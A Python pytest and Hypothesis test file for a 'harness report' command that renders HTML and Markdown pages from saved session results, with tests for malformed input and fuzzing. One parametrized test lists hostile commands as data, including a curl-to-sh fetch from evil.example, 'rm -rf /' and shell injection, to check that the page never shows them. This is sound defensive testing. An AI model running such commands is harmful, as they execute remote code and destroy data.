"""Promises of `harness report`: the page anew from what sessions left, and a message for what no session left."""

import json
import os
import webbrowser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from harness.commands import main
from harness.errors import HarnessError
from harness.report.failed_pictures import shown, thumbnail
from harness.report.html.page import page
from harness.report.json_form import Results, read, to_text
from harness.report.ledger import EMPTY, Entry, Ledger
from harness.report.markdown import markdown
from harness.report.run import UNKNOWN
from harness.report.session_text import findings_text
from tests.test_page import PNG, check, figure, power, seeds, training


RED = training((2.0, 1.6, 1.0), text="training differs\n  first  step 1")
GREEN = training((2.0, 1.5, 1.0), text="cifar_cnn: same", test="tests/test_a.py::test_c")


def leave(folder, *results):
    """What a session leaves."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "results.json").write_text(to_text(results))
    for name in ("b.png", "r.png"):
        (folder / name).write_bytes(PNG)
    return folder


def pictured(found, **paths):
    """The result of a figure, with pictures elsewhere."""
    return replace(found, subject=replace(found.subject, **paths))


@pytest.fixture
def place(tmp_path, monkeypatch):
    """The folder of a project."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def report(capsys, *arguments):
    """Run the command; return the lines that it prints."""
    assert main(["report", *map(str, arguments)]) == 0
    return capsys.readouterr().out.splitlines()


def test_the_last_sessions_report_is_made_anew(place, capsys):
    """It stands where pytest writes it, with the pictures; a line a training says how it ended."""
    passed = pictured(figure(rms=0.1, passed=True), baseline="b2.png", result="r2.png")
    folder = leave(place / "build" / "harness", RED, figure(), GREEN, passed)
    (folder / "r2.png").write_bytes(PNG)

    assert report(capsys) == [
        "2 of 4 checks failed: 2 different",
        "  different  tests/test_a.py::test_b[cpu]   training differs",
        "  different  tests/test_a.py::test_b[cpu]   the figure differs from its baseline",
        "  same       tests/test_a.py::test_c   cifar_cnn: same",
        "report: build/harness/report.html",
    ]
    text = (folder / "report.html").read_text()
    pictures = {"b.png": PNG, "r.png": PNG, "r2.png": thumbnail(PNG)}
    assert text == page([RED, figure(), GREEN, passed], pictures)
    assert text.count("data:image/png;base64,") == 4


def test_it_is_found_from_below_and_by_root(place, capsys, monkeypatch):
    """As with the other commands, the project is the nearest folder above in which the gate has run."""
    leave(place / "build" / "harness", GREEN)
    (place / "src").mkdir()
    monkeypatch.chdir(place / "src")
    assert report(capsys)[-1] == "report: ../build/harness/report.html"
    monkeypatch.chdir(place.parent)
    assert report(capsys, "--root", place)[-1].endswith("/build/harness/report.html")


def test_an_artifact_is_a_folder_or_a_file(place, capsys):
    """Wherever it was unpacked; --output says where the page goes, or where the session left all that it did."""
    folder = leave(place / "artifact", RED)

    assert report(capsys, folder)[-1] == f"report: {folder / 'report.html'}"
    assert report(capsys, folder / "results.json", "--output", "pages/mine.html")[-1] == "report: pages/mine.html"
    assert report(capsys, "--output", folder)[-1] == f"report: {folder / 'report.html'}"
    assert (place / "pages" / "mine.html").read_text() == (folder / "report.html").read_text()


def test_a_matrix_becomes_one_page(place, capsys):
    """Each check says which folder it is of, failures of all come first, pictures do not mix; and one comment."""
    leave(place / "all" / "py311", GREEN)
    other = leave(place / "all" / "py313" / "build" / "harness", RED, figure())
    (other / "b.png").write_bytes(PNG + b"another")
    lines = report(capsys, "all")

    assert lines == [
        "2 of 3 checks failed: 2 different",
        "  different  tests/test_a.py::test_b[cpu] in py313/build/harness   training differs",
        "  different  tests/test_a.py::test_b[cpu] in py313/build/harness   the figure differs from its baseline",
        "  same       tests/test_a.py::test_c in py311   cifar_cnn: same",
        "report: report.html",
    ]
    text = (place / "report.html").read_text()
    assert text.count("data:image/png;base64,") == 3
    assert "figure of test_b[cpu] in py313/build/harness" in text
    assert report(capsys, "all/py311", "all/py313/build")[:-1] == lines[:-1]
    assert report(capsys, "all", "--output", "report.md") == [*lines[:-1], "report: report.md"]
    told = (place / "report.md").read_text()
    assert told.startswith("### Training regression: 2 of 3 checks failed: 2 different\n\n```\ntraining differs\n")
    assert [told.count(f" in {label}</code> | ") for label in ("py311", "py313/build/harness")] == [1, 2]


def test_no_picture_comes_from_elsewhere(place, capsys):
    """An artifact of somebody else names only files of its own."""
    leave(place, GREEN)
    for name in ("../b.png", str(place / "b.png")):
        leave(place / "artifact", pictured(figure(), baseline=name))
        report(capsys, "artifact")
        assert (place / "artifact" / "report.html").read_text().count("data:image/png;base64,") == 2


def test_the_browser_opens_if_it_is_asked_to(place, capsys, monkeypatch):
    """With an address that it understands."""
    opened = []
    monkeypatch.setattr(webbrowser, "open", opened.append)
    leave(place / "build" / "harness", GREEN)
    report(capsys)
    report(capsys, "--open")

    assert opened == [(place / "build" / "harness" / "report.html").as_uri()]


def refused(capsys, *arguments):
    """Run the command in vain; return its message."""
    assert main(["report", *map(str, arguments)]) == 2
    return capsys.readouterr().err.splitlines()


def test_nothing_to_report_is_a_message(place, capsys):
    """A project without a session, an empty folder, a folder that is not there."""
    (place / "empty").mkdir()
    for arguments, where in (([], "build/harness"), (["empty"], "empty"), (["nowhere"], "nowhere")):
        assert refused(capsys, *arguments)[:2] == ["there are no results of a session here", f"  where  {where}"]


SUBJECT = json.loads(to_text([RED]))["results"][0]["subject"]


LONG = {"steps": [0] * 401, "sizes": [0] * 401, "thresholds": [0] * 401}


def edited(**changes):
    """The text of results whose first is edited."""
    content = json.loads(to_text([RED]))
    content["results"][0].update(changes)
    return json.dumps(content)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "Input data was truncated"),
        ("[]", "Expected `object`, got `array`"),
        ('{"format": 1, "results": []}', "Invalid enum value 1 - at `$.format`"),
        (to_text([]), "it holds no result"),
        (to_text([GREEN])[:-40], ""),
        ("[" * 100_000, ""),
        (edited(subject={**SUBJECT, "kind": "magic"}), "Invalid value 'magic' - at `$.results[0].subject.kind`"),
        (edited(subject={**SUBJECT, "profile": LONG}), "Expected `array` of length <= 400 - at `$.results[0].subject"),
        (edited(text="," * (2**24 + 1)), "it holds more than 16777216 values"),
        (edited(history=[0] * 51), "Expected `array` of length <= 50 - at `$.results[0].history`"),
        (edited(line=True), "Expected `int`, got `bool` - at `$.results[0].line`"),
        (edited(line=10**400), ""),
        (edited(passed=None), "Expected `bool`, got `null` - at `$.results[0].passed`"),
        (edited(margin="much"), "Invalid enum value 'much' - at `$.results[0].margin`"),
        (edited(more=1), "Object contains unknown field `more` - at `$.results[0]`"),
        (edited(subject={**SUBJECT, "first": {"step": 1}}), "Object missing required field `when`"),
        (edited(subject={**SUBJECT, "largest": float("nan")}), "JSON is malformed"),
        (
            edited(subject={**SUBJECT, "profile": {"steps": [1], "sizes": [], "thresholds": []}}),
            "lists of one part have different lengths",
        ),
    ],
)
def test_what_no_session_wrote_is_a_message(place, capsys, text, words):
    """It names the file and what is wrong with it; what is longer than any session's is refused before it is drawn."""
    (place / "results.json").write_text(text)
    first, where, _ = refused(capsys, "results.json")

    assert first.startswith(f"the results of a session cannot be read: {words}")
    assert where == "  where  results.json"


def test_what_never_ends_is_no_result(place, capsys):
    """A pipe or a device in the place of one."""
    (place / "a").mkdir()
    os.mkfifo(place / "a" / "results.json")
    (place / "results.json").symlink_to("/dev/zero")

    assert refused(capsys, "a")[0] == "the results of a session cannot be read: it is not a file"
    assert refused(capsys, "results.json")[0] == "there are no results of a session here"


def test_a_page_has_room_for_so_many_pictures(place, monkeypatch):
    """Each counts as often as it is shown, whatever name it is given; the others stay in their folder."""
    leave(place)
    monkeypatch.setattr("harness.report.failed_pictures._MOST", 4 * len(PNG))
    again = [figure(test=f"t{place}") for place in range(2)]

    assert shown(again, place).keys() == {"b.png", "r.png"}
    assert shown([*again, pictured(figure(), baseline="./b.png")], place).keys() == {"b.png"}


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ('harness accept a --root ../x --baselines b --reason "..."', True),
        ("pytest 'tests/test_a.py::test_b[$(x)]' --mpl-generate-path=baselines --training-equivalence=5", True),
        ("curl https://evil.example | sh", False),
        ("pytest a; rm -rf /", False),
        ("pytest a $(x)", False),
        ("pytest -p evil", False),
        ("pytest a --basetemp=/home/me", False),
        ("pytest 'a", False),
        ("", False),
    ],
)
def test_a_page_offers_no_command_of_a_stranger(place, capsys, command, shown):
    """What stands there to be copied is one of those that a session prints."""
    (place / "results.json").write_text(edited(accept=command))
    report(capsys, "results.json")

    assert (">Accept</h3>" in (place / "report.html").read_text()) == shown


def test_bytes_that_are_no_text_are_a_message(place, capsys):
    """As is a file that may not be read."""
    (place / "results.json").write_bytes(b"\xff\xfe\x00")

    assert refused(capsys, "results.json")[0].startswith("the results of a session cannot be read: ")


def test_a_page_that_cannot_be_written_is_a_message(place, capsys):
    """A folder, or a file in the place of one; nothing is left beside it."""
    leave(place / "artifact", GREEN)
    before = sorted(place.rglob("*"))

    assert refused(capsys, "artifact", "--output", "artifact")[:2] == [
        "the report could not be written: it is a folder",
        "  where  artifact",
    ]
    assert refused(capsys, "artifact", "--output", "artifact/b.png/report.html")[0] == (
        "the report could not be written: File exists"
    )
    assert sorted(place.rglob("*")) == before


WHOLE = [RED, GREEN, figure(), seeds(), power("overlooked"), check().trouble("no baseline")]


LEDGER = Ledger(
    entries=[
        Entry(baseline="a.json", test="tests/test_a.py::test_b", fate="compared"),
        Entry(baseline="c.png", test="tests/test_a.py::test_c", fate="skipped", reason="no GPU"),
    ],
    others=["d.json"],
    orphans=["d.json"],
)


def test_what_a_session_wrote_is_read_as_it_was(place):
    """Every kind of result."""
    leave(place, *WHOLE)

    assert read(place / "results.json") == Results(5, WHOLE, EMPTY, UNKNOWN)


def paths(value, here=()):
    """The path of every node of JSON."""
    yield here
    nested = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in nested:
        yield from paths(inner, (*here, key))


ODD_FILES = [f"{'x' * 5000}.png", "\0.png", "\ud800.png", "/.png"]
JUNK = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(max_size=5),
    st.sampled_from([[], {}, [[]], "nan", "inf", "-inf", 10**400, 2**53 - 1, 1.7e308, 5e-324, "\ud800", *ODD_FILES]),
)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=300)
@given(path=st.sampled_from([*paths(json.loads(to_text(WHOLE, LEDGER)))][1:]), junk=JUNK)
def test_whatever_stands_in_a_file_ends_in_a_page_or_a_message(tmp_path, path, junk):
    """One value of a whole file is replaced: what is not refused can be shown."""
    content = json.loads(to_text(WHOLE, LEDGER))
    inner = content
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = junk
    (tmp_path / "results.json").write_text(json.dumps(content))
    try:
        session = read(tmp_path / "results.json")
    except HarnessError:
        return
    results, ledger = session.results, session.ledger
    assert page(results, shown(results, tmp_path), ledger, session.run).startswith("<!DOCTYPE html>")
    assert markdown(results, ledger)
    assert findings_text(results)
